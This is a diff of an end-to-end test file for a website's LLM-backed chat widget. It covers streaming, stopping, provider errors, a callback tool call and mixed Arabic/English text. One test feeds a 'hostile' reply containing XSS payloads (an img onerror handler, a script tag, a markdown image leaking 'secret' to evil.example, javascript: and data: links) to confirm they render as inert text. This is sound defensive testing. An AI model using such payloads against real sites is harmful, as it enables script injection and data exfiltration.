@@ -1,46 +1,55 @@
 /**
  * The chat over a hosted language model: streaming, stopping, faults midway, and malicious replies.
  */
-import { startProvider } from "#tests/support/assistant.ts";
 import { startServer } from "#tests/support/built-server.ts";
 import { chatWords, openChat } from "#tests/support/chat.ts";
+import {
+  answersWith,
+  chunk,
+  done,
+  type Script,
+  startModelProvider,
+  streams,
+  streamsAndDies,
+} from "#tests/support/model-provider.ts";
 import { expect, testAgainst } from "#tests/support/test.ts";
-import { desktop } from "#tests/support/visit.ts";
 
-const long = Array.from({ length: 60 }, (_, index) => `Sentence number ${index + 1} of a long answer.`).join(" ");
 const hostile = [
   "<img src=https://evil.example/a.png onerror=\"document.title='owned'\"> <script>document.title='owned'</script>",
   "![picture](https://evil.example/?q=secret) [first](https://evil.example/) [second](javascript:document.title='owned')",
   "[third](//evil.example/x) [fourth](data:text/html,x) [fifth](/about) <style>*{display:none}</style>",
 ].join("\n\n");
+const mixed =
+  "نستخدم **Microsoft Azure** و`SQL Server` منذ 2019.\n\n- [خدمات الترحيل](/ar/services/networks)\n- Backup";
+
+const says = (content: string) => streams(chunk({ content }), chunk({}, "stop"), done);
+
+/** Sentences with their numbers, which come when the test says so. */
+function answerAtLeisure() {
+  const { promise: arrival, resolve } = Promise.withResolvers<Parameters<Script>[0]>();
+  const script: Script = (response) => {
+    response.writeHead(200, { "content-type": "text/event-stream" });
+    resolve(response);
+  };
+  const write = async (from: number, to: number) => {
+    const response = await arrival;
+    for (let number = from; number <= to; number++)
+      response.write(chunk({ content: `Sentence number ${number} of a long answer. ` }));
+  };
+  const end = async () => void (await arrival).end(chunk({}, "stop") + done);
+  return { script, write, end };
+}
 
 const test = testAgainst(async () => {
-  const { mock, settings } = await startProvider();
-  // Long enough for all steps of a test on a busy machine.
-  mock.onMessage("at leisure", { content: long }, { latency: 200, chunkSize: 30 });
-  mock.onMessage("dies", { content: long }, { latency: 40, chunkSize: 30, truncateAfterChunks: 12 });
-  mock.onMessage("hostile", { content: hostile });
-  mock.onMessage("mixed", {
-    content: "نستخدم **Microsoft Azure** و`SQL Server` منذ 2019.\n\n- [خدمات الترحيل](/ar/services/networks)\n- Backup",
-  });
-  mock.onMessage("call me", {
-    toolCalls: [
-      {
-        name: "request_callback",
-        arguments: '{"name":"Sara","phone":"+966551234567","preferred_time":"Sunday","topic":"Azure"}',
-      },
-    ],
-  });
-  mock.onMessage("refused", { error: { message: "words of the provider", type: "x" }, status: 401 });
-  mock.onMessage(/.*/, { content: "Yes. We do that." });
+  const provider = await startModelProvider();
+  const settings = { OPENAI_API_KEY: "sk-a-test", OPENAI_BASE_URL: `http://127.0.0.1:${provider.port}/v1` };
   const server = await startServer({ env: { TRUST_PROXY: "1", ...settings } });
   const stop = async () => {
     await server.stop();
-    await mock.stop();
+    provider.stop();
   };
-  return { url: server.url, stop };
+  return { url: server.url, provider, stop };
 });
-test.use({ viewport: desktop });
 
 test("the notice names a provider's model as what answers and gets the messages", async ({ page }) => {
   const { panel, words } = await openChat(page, "ar");
@@ -51,17 +60,22 @@ test("the notice names a provider's model as what answers and gets the messages"
 
 test("an answer is read from its beginning while it arrives, and followed only by whoever goes to its end", async ({
   page,
+  server: { provider },
 }) => {
   const { ask, turns, log, words, panel } = await openChat(page, "en");
+  const { script, write, end } = answerAtLeisure();
+  provider.script(script);
+  // Past the gateway, which ends what takes long.
+  await page.route("**/v1/chat/completions", (route) =>
+    route.continue({ url: `http://localhost:${provider.port}/v1/chat/completions` }),
+  );
   await ask("Tell me at leisure");
-  await expect(turns.nth(1)).toContainText("Sentence number 3 ");
+  await write(1, 40);
+  await expect(turns.nth(1)).toContainText("Sentence number 40 ");
   await expect(log).toHaveAttribute("aria-busy", "true");
-  await expect(turns.nth(1)).not.toContainText("number 60");
-  const distance = () => log.evaluate((one) => one.scrollHeight - one.scrollTop - one.clientHeight);
-  await expect(turns.nth(1)).toContainText("Sentence number 20 ");
   await expect(turns.first()).toBeInViewport({ ratio: 1 });
+  const distance = () => log.evaluate((one) => one.scrollHeight - one.scrollTop - one.clientHeight);
   const latest = panel.getByRole("button", { name: words.latest });
-  await expect(latest).toBeVisible();
   await latest.click();
   await expect.poll(distance).toBeLessThan(4);
   await expect(latest).toBeHidden();
@@ -69,41 +83,46 @@ test("an answer is read from its beginning while it arrives, and followed only b
   await log.hover();
   await page.mouse.wheel(0, -300);
   await expect(latest).toBeVisible();
+  // The wheel has come to rest.
+  await expect.poll(distance).toBeGreaterThanOrEqual(296);
   const top = await log.evaluate((one) => one.scrollTop);
-  const read = await turns.nth(1).innerText();
-  await expect.poll(async () => (await turns.nth(1).innerText()).length).toBeGreaterThan(read.length + 200);
+  await write(41, 60);
+  await expect(turns.nth(1)).toContainText("Sentence number 60 ");
   expect(await log.evaluate((one) => one.scrollTop)).toBe(top);
   await latest.click();
   await expect.poll(distance).toBeLessThan(4);
   await expect(latest).toBeHidden();
-  await expect(turns.nth(1)).toContainText("number 60");
+  await write(61, 80);
+  await end();
+  await expect(turns.nth(1)).toContainText("Sentence number 80 ");
   await expect(log).toHaveAttribute("aria-busy", "false");
   await expect.poll(distance).toBeLessThan(4);
 });
 
-test("a stopped answer stays in the conversation, and its call is ended", async ({ page }) => {
-  const bodies: { messages: { content: string }[] }[] = [];
-  page.on("request", (request) => {
-    if (request.url().endsWith("/completions")) bodies.push(request.postDataJSON());
-  });
+test("a stopped answer stays in the conversation, and its call is ended", async ({ page, server: { provider } }) => {
   const { ask, stop, turns, input, words, error } = await openChat(page, "en");
+  const { script, write } = answerAtLeisure();
+  provider.script(script, says("Yes. We do that."));
   await ask("Tell me at leisure");
   await expect(stop).toBeFocused();
+  await write(1, 4);
   await expect(turns.nth(1)).toContainText("Sentence number 4 ");
+  const call = provider.calls.at(-1)!;
   await stop.press("Enter");
   await expect(stop).toHaveCount(0);
   await expect(input).toBeFocused();
   await expect(turns.nth(1)).toContainText(words.stopped);
   await expect(turns.nth(1)).toContainText("Sentence number 4 ");
-  await expect(turns.nth(1)).not.toContainText("number 60");
   await expect(error).toHaveCount(0);
+  await expect.poll(() => call.cutAt).toBeDefined();
   await ask("Anything else?");
-  await expect(turns).toHaveCount(4);
-  expect(bodies[1]?.messages).toHaveLength(3);
-  expect(bodies[1]?.messages[1]?.content).toContain("Sentence number 4 ");
+  await expect(turns.nth(3)).toContainText("Yes. We do that.");
+  const messages = provider.calls.at(-1)!.body.messages as { role: string; content: string }[];
+  expect(messages.at(-2)).toMatchObject({ role: "assistant", content: expect.stringContaining("Sentence number 4 ") });
 });
 
-test("stopped before anything came, the question can be asked again", async ({ page }) => {
+test("stopped before anything came, the question can be asked again", async ({ page, server: { provider } }) => {
+  provider.script(says("Yes. We do that."));
   const { ask, stop, turns, panel, words, error } = await openChat(page, "en");
   await page.route("**/v1/chat/completions", () => undefined, { times: 1 });
   const call = page.waitForRequest("**/v1/chat/completions");
@@ -119,7 +138,12 @@ test("stopped before anything came, the question can be asked again", async ({ p
 test.describe("a provider that fails", () => {
   test.use({ allowedProblems: [/status of 401/] });
 
-  test("is the notice below what came of an answer, and nothing of its own words", async ({ page }) => {
+  test("is the notice below what came of an answer, and nothing of its own words", async ({
+    page,
+    server: { provider },
+  }) => {
+    const refusal = { error: { message: "words of the provider", type: "x" } };
+    provider.script(streamsAndDies(chunk({ content: "Sentence number one." })), answersWith(401, refusal));
     const { ask, turns, panel, error, input } = await openChat(page, "en");
     await ask("One that dies");
     await expect(turns.nth(1)).toContainText("Sentence number");
@@ -135,7 +159,11 @@ test.describe("a provider that fails", () => {
   });
 });
 
-test("a hostile reply is text: no element, no picture, no link but to our pages", async ({ page }) => {
+test("a hostile reply is text: no element, no picture, no link but to our pages", async ({
+  page,
+  server: { provider },
+}) => {
+  provider.script(says(hostile));
   const { ask, turns } = await openChat(page, "en");
   const title = await page.title();
   await ask("Something hostile");
@@ -149,7 +177,16 @@ test("a hostile reply is text: no element, no picture, no link but to our pages"
   expect(await page.title()).toBe(title);
 });
 
-test("the model's call of the tool fills in the card, and the visitor decides", async ({ page }) => {
+test("the model's call of the tool fills in the card, and the visitor decides", async ({
+  page,
+  server: { provider },
+}) => {
+  const call = {
+    name: "request_callback",
+    arguments: '{"name":"Sara","phone":"+966551234567","preferred_time":"Sunday","topic":"Azure"}',
+  };
+  const tool_calls = [{ index: 0, id: "call_1", type: "function", function: call }];
+  provider.script(streams(chunk({ tool_calls }), chunk({}, "tool_calls"), done));
   const posts: string[] = [];
   page.on("request", (request) => {
     if (request.url().endsWith("/api/leads")) posts.push(request.method());
@@ -172,7 +209,8 @@ test("the model's call of the tool fills in the card, and the visitor decides", 
 test.describe("text of both directions", () => {
   test.use({ permissions: ["clipboard-read", "clipboard-write"] });
 
-  test("mixes without disturbing each other, and is copied as it is read", async ({ page }) => {
+  test("mixes without disturbing each other, and is copied as it is read", async ({ page, server: { provider } }) => {
+    provider.script(says(mixed));
     const { ask, turns, panel, words } = await openChat(page, "en");
     await ask("mixed");
     const answer = turns.nth(1).locator(".chat-text");
